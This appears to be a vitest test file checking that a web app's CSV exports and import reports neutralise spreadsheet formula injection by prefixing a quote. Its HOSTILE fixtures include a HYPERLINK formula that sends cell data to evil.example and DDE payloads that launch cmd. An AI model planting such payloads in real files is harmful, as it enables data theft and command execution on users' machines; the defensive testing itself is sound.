/**
 * CSV formula injection (issue 12, defect 4): text that a spreadsheet program would run as a
 * formula (= + - @, tab, carriage return first) leaves every CSV export with a leading ' —
 * problems for each role, enterprises, labs, contacts and an import's row report — while
 * numbers, negative ones included, stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvResponse } from '../../src/http/files.js';
import { ADMIN_TOKEN, testApp, type TestApp } from '../support/app.js';
import { brokering, cast, makeCreditCode } from '../support/fixtures.js';
import { csvFile, upload } from '../support/spreadsheets.js';

let t: TestApp;
let c: Awaited<ReturnType<typeof cast>>;
const HOSTILE = {
  enterprise: '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
  problem: '+cmd|" /C calc"!A0 注塑件表面缺陷检测',
  lab: '@SUM(1+1)*cmd|" /C calc"!A0 实验室',
  contact: '-2+3+cmd|" /C calc"!A0 上门了解企业技术需求',
};
beforeAll(async () => {
  t = await testApp();
  c = await cast(t);
  const b = brokering(t);
  const ent = await c.f.enterprise({ name: HOSTILE.enterprise });
  await c.f.problem(c.entA.id, { title: HOSTILE.problem, visibility: 'public' });
  await c.f.lab(c.uniX.id, { name: HOSTILE.lab });
  await b.contact(ent.id, { summary: HOSTILE.contact });
});
afterAll(() => t.close());

async function csvOf(path: string, token: string = ADMIN_TOKEN): Promise<string[][]> {
  const res = await t.app.request(path, { headers: { authorization: `Bearer ${token}` } });
  expect(res.status, path).toBe(200);
  return parse(Buffer.from(await res.arrayBuffer()), { bom: true, relax_column_count: true });
}

const cellsOf = (rows: string[][]) => rows.flat();

describe('CSV exports neutralise formula-like text', () => {
  it.each([
    ['problems', 'admin', HOSTILE.problem],
    ['problems', 'entA', HOSTILE.problem],
    ['problems', 'uniX', HOSTILE.problem],
    ['enterprises', 'admin', HOSTILE.enterprise],
    ['labs', 'uniY', HOSTILE.lab],
    ['contacts', 'admin', HOSTILE.contact],
  ] as const)('/exports/%s as %s', async (list, who, value) => {
    const cells = cellsOf(await csvOf(`/api/v1/exports/${list}?format=csv`, c.tokens[who]));
    expect(cells).toContain(`'${value}`);
    expect(cells.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it("an import's row report: the file's own headers and cells", async () => {
    const file = csvFile([
      ['企业名称', '统一社会信用代码', '@备注'],
      ['=1+2 科技有限公司', makeCreditCode(), '+SUM(A1:A9)'],
      ['正常科技有限公司', makeCreditCode(), '-5'],
    ]);
    const preview = await upload(t, 'enterprises', file);
    expect(preview.status, JSON.stringify(preview.body)).toBe(201);
    const rows = await csvOf(`/api/v1/imports/${preview.body.id}/rows/export?format=csv`);
    expect(rows[0]).toContain("'@备注");
    expect(cellsOf(rows), JSON.stringify(rows)).toEqual(
      expect.arrayContaining(["'=1+2 科技有限公司", "'+SUM(A1:A9)", "'-5"]),
    );
    expect(cellsOf(rows).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('numbers stay numbers: a negative amount is written -3, the text "-3" is written \'-3', async () => {
    const res = csvResponse(
      {
        headers: ['数值', '文本', '空'],
        rows: [
          [-3, '-3', null],
          [2.5, '@x', ''],
          [0, '\t=1', '\r=2'],
        ],
      },
      'n',
    );
    const text = (await res.text()).replace(/^\uFEFF/, '');
    expect(text).toBe("数值,文本,空\n-3,'-3,\n2.5,'@x,\n0,'\t=1,\"'\r=2\"\n");
  });
});
